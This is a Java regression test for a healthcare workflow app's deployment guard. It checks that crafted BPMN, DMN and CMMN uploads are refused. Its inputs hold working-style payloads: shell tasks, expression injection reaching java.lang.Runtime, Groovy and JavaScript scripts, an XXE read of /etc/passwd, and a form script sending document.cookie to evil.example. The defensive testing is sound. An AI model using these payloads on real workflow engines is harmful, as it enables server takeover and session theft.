package se.vardflode.governance;

import static org.assertj.core.api.Assertions.assertThat;
import static org.camunda.bpm.engine.test.assertions.bpmn.BpmnAwareTests.repositoryService;

import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.core.io.ByteArrayResource;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpStatus;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;
import org.springframework.util.LinkedMultiValueMap;

import se.vardflode.VardflodeTest;

/**
 * The ways past the deployment guard that issue 15 found (each one ran a command on the server or code in a nurse's
 * browser), tried the way they were found: Modeler's door, {@code POST /engine-rest/deployment/create} as the process
 * owner. Each one is refused whole with a reason naming the file, the element and the rule, and nothing is deployed.
 */
@VardflodeTest
class DeploymentGuardBypassTest {

	static final String DEPLOYMENT = "guard-bypass";
	static final String PROCESS_OWNER = "processagare";
	static final String BVC_NURSE = "bvc.karin";
	static final String PASSWORD = "demo";
	static final String ACTIVITI_NS = "xmlns:activiti=\"http://activiti.org/bpmn\"";

	@Autowired
	TestRestTemplate http;

	@AfterEach
	void removeWhatGotThrough() {
		repositoryService().createDeploymentQuery().deploymentName(DEPLOYMENT).list()
			.forEach(deployment -> repositoryService().deleteDeployment(deployment.getId(), true));
	}

	@ParameterizedTest
	@ValueSource(strings = {
			"camunda:type=\"shell\"><extensionElements><camunda:field name=\"command\" stringValue=\"id\"/></extensionElements>",
			"camunda:type=\"Shell\"><extensionElements><camunda:field name=\"command\" stringValue=\"id\"/></extensionElements>",
			"camunda:type=\"mail\"><extensionElements><camunda:field name=\"to\" stringValue=\"anyone@evil.example\"/></extensionElements>",
			"camunda:type=\"external\" camunda:topic=\"anything\">" })
	void refuses_every_service_task_type_the_engine_knows(String typeAndFields) {
		String model = process("", "<serviceTask id=\"attack\" " + typeAndFields + "</serviceTask>");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "TASK_TYPE");
	}

	@Test
	void refuses_the_legacy_activiti_namespace_the_engine_still_reads() {
		String model = process(ACTIVITI_NS, """
				<serviceTask id="attack" activiti:class="org.camunda.bpm.engine.impl.bpmn.behavior.ShellActivityBehavior">
				  <extensionElements>
				    <activiti:field name="command" stringValue="id"/>
				  </extensionElements>
				</serviceTask>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "NAMESPACE");
	}

	@Test
	void refuses_an_activiti_type_shell() {
		String model = process(ACTIVITI_NS, """
				<serviceTask id="attack" activiti:type="shell">
				  <extensionElements><camunda:field name="command" stringValue="id"/></extensionElements>
				</serviceTask>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "NAMESPACE");
	}

	@Test
	void refuses_a_listener_class_given_as_an_unqualified_attribute() {
		String model = process("", """
				<serviceTask id="attack" camunda:delegateExpression="${notifyUnitTeamDelegate}">
				  <extensionElements>
				    <camunda:executionListener event="start" class="org.example.Listener"/>
				  </extensionElements>
				</serviceTask>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "JAVA_CLASS");
	}

	@Test
	void refuses_a_variable_mapping_class_and_a_form_handler_class_outside_the_project() {
		String model = process("", """
				<callActivity id="attack" calledElement="patient-questionnaire" camunda:variableMappingClass="org.example.Mapping"/>""");
		String handler = process("", """
				<userTask id="attack" camunda:formHandlerClass="org.example.FormHandler" camunda:candidateGroups="bvc-gavle"/>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "JAVA_CLASS");
		assertRefused(deploy("attack.bpmn", handler), "attack.bpmn", "attack", "FORM_KEY");
	}

	@Test
	void refuses_extension_attributes_and_elements_that_are_not_on_the_allow_list() {
		String unqualified = process("", """
				<serviceTask id="attack" camunda:delegateExpression="${notifyUnitTeamDelegate}" unknownAttribute="x"/>""");
		String foreignNamespace = process("xmlns:evil=\"urn:evil\"", """
				<serviceTask id="attack" camunda:delegateExpression="${notifyUnitTeamDelegate}" evil:type="shell"/>""");
		String connector = process("", """
				<serviceTask id="attack">
				  <extensionElements>
				    <camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>
				  </extensionElements>
				</serviceTask>""");

		assertRefused(deploy("attack.bpmn", unqualified), "attack.bpmn", "attack", "ATTRIBUTE");
		assertRefused(deploy("attack.bpmn", foreignNamespace), "attack.bpmn", "attack", "NAMESPACE");
		assertRefused(deploy("attack.bpmn", connector), "attack.bpmn", "attack", "ELEMENT");
	}

	@Test
	void refuses_an_element_in_a_foreign_namespace_that_the_engine_reads_by_its_local_name() {
		// the engine looks up child elements such as conditionExpression by local name only, in any namespace
		String model = process("xmlns:evil=\"urn:evil\"", """
				<exclusiveGateway id="attack"/>
				<sequenceFlow id="conditional" sourceRef="attack" targetRef="end">
				  <evil:conditionExpression>${''.getClass().forName('java.lang.Runtime')}</evil:conditionExpression>
				</sequenceFlow>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "conditional", "NAMESPACE");
	}

	@Test
	void refuses_a_diagram_namespace_element_outside_the_diagram() {
		String model = process("xmlns:bpmndi=\"http://www.omg.org/spec/BPMN/20100524/DI\"", """
				<exclusiveGateway id="attack"/>
				<sequenceFlow id="conditional" sourceRef="attack" targetRef="end">
				  <bpmndi:conditionExpression>${''.getClass().forName('java.lang.Runtime')}</bpmndi:conditionExpression>
				</sequenceFlow>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "conditional", "NAMESPACE");
	}

	@Test
	void refuses_an_expression_split_by_a_comment_or_a_cdata_section() {
		// the engine joins an element's text; checked piece by piece, neither "$" nor "{...}" looks like an expression
		String comment = process("", """
				<exclusiveGateway id="attack"/>
				<sequenceFlow id="conditional" sourceRef="attack" targetRef="end">
				  <conditionExpression xsi:type="tFormalExpression">$<!-- -->{''.getClass().forName('java.lang.Runtime')}</conditionExpression>
				</sequenceFlow>""");
		String cdata = comment.replace("$<!-- -->{", "<![CDATA[$]]>{");

		assertRefused(deploy("attack.bpmn", comment), "attack.bpmn", "conditional", "EXPRESSION");
		assertRefused(deploy("attack.bpmn", cdata), "attack.bpmn", "conditional", "EXPRESSION");
	}

	@Test
	void refuses_a_script_in_an_input_mapping() {
		String model = process("", """
				<serviceTask id="attack" camunda:delegateExpression="${notifyUnitTeamDelegate}">
				  <extensionElements>
				    <camunda:inputOutput>
				      <camunda:inputParameter name="x"><camunda:script scriptFormat="javascript">java.lang.Runtime.getRuntime()</camunda:script></camunda:inputParameter>
				    </camunda:inputOutput>
				  </extensionElements>
				</serviceTask>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "SCRIPT");
	}

	@ParameterizedTest
	@ValueSource(strings = {
			"<serviceTask id=\"attack\" camunda:delegateExpression=\"${notifyUnitTeamDelegate}\"><extensionElements><camunda:field name=\"x\" expression=\"${EVIL}\"/></extensionElements></serviceTask>",
			"<serviceTask id=\"attack\" camunda:delegateExpression=\"${notifyUnitTeamDelegate}\"><extensionElements><camunda:field name=\"x\"><camunda:expression>${EVIL}</camunda:expression></camunda:field></extensionElements></serviceTask>",
			"<callActivity id=\"attack\" calledElement=\"patient-questionnaire\"><extensionElements><camunda:in sourceExpression=\"${EVIL}\" target=\"x\"/></extensionElements></callActivity>",
			"<callActivity id=\"attack\" calledElement=\"${EVIL}\"/>",
			"<businessRuleTask id=\"attack\" camunda:decisionRef=\"${EVIL}\" camunda:decisionRefBinding=\"latest\" camunda:mapDecisionResult=\"singleEntry\" camunda:resultVariable=\"x\"/>",
			"<intermediateCatchEvent id=\"attack\"><timerEventDefinition><timeDuration>${EVIL}</timeDuration></timerEventDefinition></intermediateCatchEvent>",
			"<intermediateCatchEvent id=\"attack\"><conditionalEventDefinition camunda:variableName=\"x\"><condition xsi:type=\"tFormalExpression\">${EVIL}</condition></conditionalEventDefinition></intermediateCatchEvent>",
			"<userTask id=\"attack\" camunda:candidateGroups=\"bvc-gavle\"><extensionElements><camunda:taskListener event=\"create\" expression=\"${EVIL}\"/></extensionElements></userTask>",
			"<userTask id=\"attack\" camunda:candidateGroups=\"bvc-gavle\" camunda:dueDate=\"${EVIL}\"/>" })
	void refuses_code_in_every_place_the_engine_evaluates_an_expression(String attack) {
		String model = process("", attack.replace("EVIL", "''.getClass().forName('java.lang.Runtime')"));

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "EXPRESSION");
	}

	@Test
	void refuses_code_in_an_error_message() {
		String model = """
				<?xml version="1.0" encoding="UTF-8"?>
				<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
				    id="attack-definitions" targetNamespace="http://vardflode.se/attack">
				  <error id="attackError" errorCode="E" camunda:errorMessage="${''.getClass().forName('java.lang.Runtime')}"/>
				  <process id="guard-bypass" isExecutable="true" camunda:historyTimeToLive="P30D">
				    <startEvent id="start"/>
				  </process>
				</definitions>""";

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attackError", "EXPRESSION");
	}

	@ParameterizedTest
	@ValueSource(strings = { "x.dmn11.xml", "x.bpmn20.xml", "x.cmmn", "x.cmmn11.xml", "xbpmn", "x.BPMN", "evil.html", "x.js", "x.groovy", "diagram.png" })
	void refuses_every_resource_that_is_not_bpmn_dmn_or_a_form(String name) {
		assertRefused(deploy(name, "<definitions/>"), name, name, "RESOURCE_TYPE");
	}

	@Test
	void refuses_a_juel_decision_in_a_dmn11_file() {
		String decision = decision("""
				<output id="out" name="out" typeRef="string"/>
				<rule id="rule"><outputEntry id="entry" expressionLanguage="juel"><text>${''.getClass().forName('java.lang.Runtime')}</text></outputEntry></rule>""");

		assertRefused(deploy("x.dmn11.xml", decision), "x.dmn11.xml", "x.dmn11.xml", "RESOURCE_TYPE");
		assertRefused(deploy("x.dmn", decision), "x.dmn", "entry", "DMN_EXPRESSION_LANGUAGE");
	}

	@Test
	void refuses_a_script_in_a_dmn_input_expression_and_a_literal_decision() {
		String input = decision("""
				<input id="in"><inputExpression id="inputExpression" typeRef="string" expressionLanguage="javascript"><text>java.lang.Runtime.getRuntime()</text></inputExpression></input>
				<output id="out" name="out" typeRef="string"/>""");
		String literal = """
				<?xml version="1.0" encoding="UTF-8"?>
				<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" id="attack-dmn" name="x" namespace="http://vardflode.se/dmn">
				  <decision id="attack-literal" name="x">
				    <variable id="v" name="x" typeRef="string"/>
				    <literalExpression id="literal" expressionLanguage="groovy"><text>'id'.execute().text</text></literalExpression>
				  </decision>
				</definitions>""";

		assertRefused(deploy("x.dmn", input), "x.dmn", "inputExpression", "DMN_EXPRESSION_LANGUAGE");
		assertRefused(deploy("x.dmn", literal), "x.dmn", "literal", "DMN_EXPRESSION_LANGUAGE");
	}

	@Test
	void refuses_a_cmmn_case_and_no_staff_member_can_create_one() {
		String caseModel = """
				<?xml version="1.0" encoding="UTF-8"?>
				<definitions xmlns="http://www.omg.org/spec/CMMN/20151109/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/cmmn"
				    id="attack-case-definitions" targetNamespace="http://vardflode.se/cmmn">
				  <case id="attack-case" camunda:historyTimeToLive="P1D">
				    <casePlanModel id="plan">
				      <extensionElements>
				        <camunda:caseExecutionListener event="create" expression="${''.getClass().forName('java.lang.Runtime')}"/>
				      </extensionElements>
				    </casePlanModel>
				  </case>
				</definitions>""";

		ResponseEntity<String> deployment = deploy("attack.cmmn", caseModel);
		ResponseEntity<String> create = http.withBasicAuth(BVC_NURSE, PASSWORD)
			.postForEntity("/engine-rest/case-definition/key/attack-case/create", Map.of(), String.class);

		assertRefused(deployment, "attack.cmmn", "attack.cmmn", "RESOURCE_TYPE");
		assertThat(create.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
		assertThat(create.getBody()).contains("CMMN är avstängt");
		// with CMMN off the engine has no case tables: its case queries answer 404, not a database error
		assertThat(http.withBasicAuth(PROCESS_OWNER, PASSWORD).getForEntity("/engine-rest/case-instance", String.class).getStatusCode())
			.isEqualTo(HttpStatus.NOT_FOUND);
		assertThat(http.withBasicAuth(PROCESS_OWNER, PASSWORD).getForEntity("/engine-rest/history/case-instance", String.class)
			.getStatusCode()).isEqualTo(HttpStatus.NOT_FOUND);
		assertThat(repositoryService().createCaseDefinitionQuery().caseDefinitionKey("attack-case").count()).isZero();
	}

	@Test
	void refuses_an_embedded_html_form_and_its_html_file() {
		String model = process("", """
				<userTask id="attack" camunda:formKey="embedded:deployment:evil.html" camunda:candidateGroups="bvc-gavle"/>""");
		String html = "<form><script cam-script type=\"text/form-script\">fetch('https://evil.example/' + document.cookie)</script></form>";

		ResponseEntity<String> response = deploy(Map.of("attack.bpmn", model, "evil.html", html));

		assertRefused(response, "attack.bpmn", "attack", "FORM_KEY");
		assertThat(response.getBody()).contains("evil.html", "RESOURCE_TYPE");
	}

	@ParameterizedTest
	@ValueSource(strings = { "app:forms/evil.html", "embedded:app:forms/evil.html", "camunda-forms:deployment:x.form", "https://evil.example/form" })
	void refuses_every_form_key_camunda_forms_are_referenced_by_form_ref(String formKey) {
		String model = process("", """
				<userTask id="attack" camunda:formKey="%s" camunda:candidateGroups="bvc-gavle"/>""".formatted(formKey));

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "FORM_KEY");
	}

	@Test
	void refuses_a_generated_form() {
		String model = process("", """
				<userTask id="attack" camunda:candidateGroups="bvc-gavle">
				  <extensionElements>
				    <camunda:formData><camunda:formField id="x" type="string" defaultValue="${''.getClass()}"/></camunda:formData>
				  </extensionElements>
				</userTask>""");

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack", "FORM_KEY");
	}

	@Test
	void refuses_a_doctype_with_400_not_500() {
		String model = """
				<?xml version="1.0" encoding="UTF-8"?>
				<!DOCTYPE definitions [ <!ENTITY secret SYSTEM "file:///etc/passwd"> ]>
				<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" targetNamespace="x">
				  <process id="guard-bypass" name="&secret;"/>
				</definitions>""";

		assertRefused(deploy("attack.bpmn", model), "attack.bpmn", "attack.bpmn", "XML");
	}

	/** Refused by the REST API's multipart reader, before the 50 MB are in memory; the guard has the same limit. */
	@Test
	void refuses_a_50_mb_deployment() {
		byte[] big = new byte[50 * 1024 * 1024];
		java.util.Arrays.fill(big, (byte) ' ');

		ResponseEntity<String> response = deploy(Map.of("big.bpmn", big));

		assertThat(response.getStatusCode()).isEqualTo(HttpStatus.BAD_REQUEST);
		assertThat(response.getBody()).contains("Driftsättningen är för stor: högst 5120 kB tas emot");
		assertThat(repositoryService().createDeploymentQuery().deploymentName(DEPLOYMENT).count()).isZero();
	}

	private void assertRefused(ResponseEntity<String> response, String file, String element, String rule) {
		assertThat(response.getStatusCode()).as(response.getBody()).isEqualTo(HttpStatus.BAD_REQUEST);
		assertThat(response.getBody()).contains("Driftsättningen nekades", file, "'" + element + "'", "[" + rule + "]");
		assertThat(repositoryService().createDeploymentQuery().deploymentName(DEPLOYMENT).count()).isZero();
	}

	private ResponseEntity<String> deploy(String name, String content) {
		return deploy(Map.of(name, content));
	}

	private ResponseEntity<String> deploy(Map<String, ?> files) {
		LinkedMultiValueMap<String, Object> parts = new LinkedMultiValueMap<>();
		parts.add("deployment-name", DEPLOYMENT);
		Map<String, ?> ordered = new LinkedHashMap<>(files);
		ordered.forEach((name, content) -> parts.add(name, new ByteArrayResource(
				content instanceof String text ? text.getBytes(StandardCharsets.UTF_8) : (byte[]) content) {
			@Override
			public String getFilename() {
				return name;
			}
		}));
		HttpHeaders headers = new HttpHeaders();
		headers.setContentType(MediaType.MULTIPART_FORM_DATA);
		return http.withBasicAuth(PROCESS_OWNER, PASSWORD)
			.postForEntity("/engine-rest/deployment/create", new HttpEntity<>(parts, headers), String.class);
	}

	/** A runnable process around one element with id {@code attack}. */
	private static String process(String namespaces, String attack) {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn"
				    xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" %s id="attack-definitions" targetNamespace="http://vardflode.se/attack">
				  <process id="guard-bypass" isExecutable="true" camunda:historyTimeToLive="P30D">
				    <startEvent id="start"/>
				    <sequenceFlow id="toAttack" sourceRef="start" targetRef="attack"/>
				    %s
				    <sequenceFlow id="toEnd" sourceRef="attack" targetRef="end"/>
				    <endEvent id="end"/>
				  </process>
				</definitions>""".formatted(namespaces, attack);
	}

	private static String decision(String table) {
		return """
				<?xml version="1.0" encoding="UTF-8"?>
				<definitions xmlns="https://www.omg.org/spec/DMN/20191111/MODEL/" xmlns:camunda="http://camunda.org/schema/1.0/dmn"
				    id="attack-dmn" name="x" namespace="http://vardflode.se/dmn">
				  <decision id="attack-decision" name="x" camunda:historyTimeToLive="P30D">
				    <decisionTable id="table" hitPolicy="FIRST">
				      %s
				    </decisionTable>
				  </decision>
				</definitions>""".formatted(table);
	}

}
